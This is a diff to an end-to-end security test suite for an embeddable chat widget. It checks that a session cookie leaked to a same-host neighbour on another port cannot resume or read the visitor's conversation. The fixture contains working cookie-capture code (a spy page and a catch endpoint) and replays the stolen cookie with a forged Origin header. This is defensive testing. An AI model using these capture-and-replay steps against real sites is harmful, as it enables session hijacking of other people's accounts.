@@ -37,11 +37,25 @@ fetch(hostcall + '/api/agents/planner/session', {
   headers: {'content-type': 'text/plain'}, body: JSON.stringify({parentOrigin: board}),
 }).then(r => r.text().then(t => { document.body.dataset.resume = r.status + ' ' + t }),
         e => { document.body.dataset.resume = 'blocked: ' + e })
+// Its own server on this port, at the path the widget's cookie is sent to: the browser sends
+// the cookie here too (cookies ignore ports), and the neighbour's server keeps it.
+fetch('/api/agents/planner/session', {method: 'POST', credentials: 'include'})
+  .then(r => { document.body.dataset.caught = r.status })
 </script>"""
+
+
+#: The Cookie headers the neighbour's server was sent, in order.
+CAUGHT: list[str] = []
 
 
 @pytest.fixture
 def neighbour() -> Iterator[int]:
+    CAUGHT.clear()
+
+    async def catch(request: Request) -> Response:
+        CAUGHT.append(request.headers.get("cookie", ""))
+        return Response(status_code=204)
+
     async def top(request: Request) -> Response:
         src = request.query_params["frame"]
         return HTMLResponse(f'<!doctype html><iframe name=spy src="{src}"></iframe>')
@@ -60,7 +74,9 @@ def neighbour() -> Iterator[int]:
         )
         return response
 
-    app = Starlette(routes=[Route("/top", top), Route("/spy", spy), Route("/plant", plant)])
+    routes = [Route("/top", top), Route("/spy", spy), Route("/plant", plant)]
+    routes.append(Route("/api/agents/planner/session", catch, methods=["POST"]))
+    app = Starlette(routes=routes)
     with serve_in_thread(app) as port:
         yield port
 
@@ -109,10 +125,12 @@ def test_a_planted_session_gives_the_neighbour_nothing(
     page: Page, demo: Demo, neighbour: int
 ) -> None:
     board = demo.board.rstrip("/")
-    # The neighbour gets a conversation of its own, from outside the browser.
+    # The neighbour gets a conversation of its own, from outside the browser, with a key of
+    # its own (it cannot know the visitor's page's key).
+    key = "n" * 48
     created = httpx.post(
         f"{demo.hostcall}/api/agents/planner/conversations",
-        json={"parentOrigin": board},
+        json={"parentOrigin": board, "resumeKey": key},
         headers={"Origin": board},
     )
     assert created.status_code == 201, created.text
@@ -132,23 +150,74 @@ def test_a_planted_session_gives_the_neighbour_nothing(
     say(widget, "What should I work on next?")
     expect(widget.locator("[data-part=message][data-role=assistant]").last).to_be_visible()
     mine = session(page, demo)
-    # Whatever conversation the visitor is in, every credential the planter kept is dead.
+    # The planted cookie, bound to the planter's key, did not resume with the visitor's: the
+    # visitor is in a conversation of their own, and the planter's holds nothing of theirs.
+    assert mine["conversationId"] != theirs["conversationId"]
     auth = {"Authorization": f"Bearer {theirs['sessionToken']}"}
     snap = httpx.get(f"{demo.hostcall}/api/conversations/{theirs['conversationId']}", headers=auth)
-    assert snap.status_code == 401 and snap.json()["error"]["code"] == "session_replaced"
-    stream = httpx.get(
-        f"{demo.hostcall}/api/conversations/{theirs['conversationId']}/events",
-        params={"token": theirs["streamToken"]},
-    )
-    assert stream.status_code == 401, stream.text
+    assert snap.status_code == 200 and snap.json()["messages"] == [], snap.text
     again = httpx.post(
         f"{demo.hostcall}/api/agents/planner/session",
-        json={"parentOrigin": board},
+        json={"parentOrigin": board, "resumeKey": key},
         headers={"Origin": demo.hostcall, "Cookie": f"{name}={value}"},
     )
-    assert again.status_code == 404 and again.json()["error"]["code"] == "no_session"
+    assert again.status_code == 200 and again.json()["conversationId"] == theirs["conversationId"]
     # The visitor's own session works, and a reload keeps the conversation.
     page.reload()
     page.locator("[data-part=hostcall-launcher]").click()
     expect(last_text(widget, "user")).to_have_text("What should I work on next?")
+    assert session(page, demo)["conversationId"] == mine["conversationId"]
+
+
+def test_a_cookie_caught_by_a_neighbours_server_opens_nothing(
+    page: Page, demo: Demo, neighbour: int
+) -> None:
+    # The visitor has a call waiting for approval: what a neighbour would like to decide.
+    widget, _ = open_chat(page, demo)
+    say(widget, "Add a task to review the Q3 report before Friday")
+    approve = widget.locator("[data-part=approve]")
+    expect(approve).to_be_visible()
+    mine = session(page, demo)
+    spy_page = page.context.new_page()
+    board = demo.board.rstrip("/")
+    spy = open_neighbour(
+        spy_page,
+        neighbour,
+        f"http://127.0.0.1:{neighbour}/spy?hostcall={demo.hostcall}&board={board}",
+    )
+    spy.wait_for_function("document.body.dataset.caught !== undefined")
+    caught = [c for c in CAUGHT if "hc_session" in c]
+    assert caught, CAUGHT  # the browser did send it: only the key makes it worthless
+    # The neighbour replays it from its server, forging the widget's Origin: to resume it,
+    # and as a session token.
+    headers = {"Origin": demo.hostcall, "Cookie": caught[-1]}
+    replayed = httpx.post(
+        f"{demo.hostcall}/api/agents/planner/session", json={"parentOrigin": board}, headers=headers
+    )
+    assert replayed.status_code == 404, replayed.text
+    assert replayed.json()["error"]["code"] == "no_session"
+    assert not replayed.headers.get("set-cookie")
+    value = caught[-1].partition("=")[2].partition(";")[0]
+    as_token = httpx.get(
+        f"{demo.hostcall}/api/conversations/{mine['conversationId']}",
+        headers={"Origin": demo.hostcall, "Authorization": f"Bearer {value}"},
+    )
+    assert as_token.status_code in (401, 403), as_token.text
+    assert "decisionToken" not in as_token.text
+    shot(spy_page, "neighbour-caught-cookie")
+    # The visitor's session was not replaced, and the visitor decides the call.
+    r = httpx.get(
+        f"{demo.hostcall}/api/conversations/{mine['conversationId']}",
+        headers={"Authorization": f"Bearer {mine['sessionToken']}"},
+    )
+    assert r.status_code == 200, r.text
+    approve.click()
+    card = widget.locator("[data-part=tool-call][data-tool=create_task]")
+    expect(card).to_have_attribute("data-state", "done")
+    expect(last_text(widget, "assistant")).to_contain_text("Done: I created")
+    page.reload()
+    page.locator("[data-part=hostcall-launcher]").click()
+    expect(last_text(widget, "user")).to_have_text(
+        "Add a task to review the Q3 report before Friday"
+    )
     assert session(page, demo)["conversationId"] == mine["conversationId"]
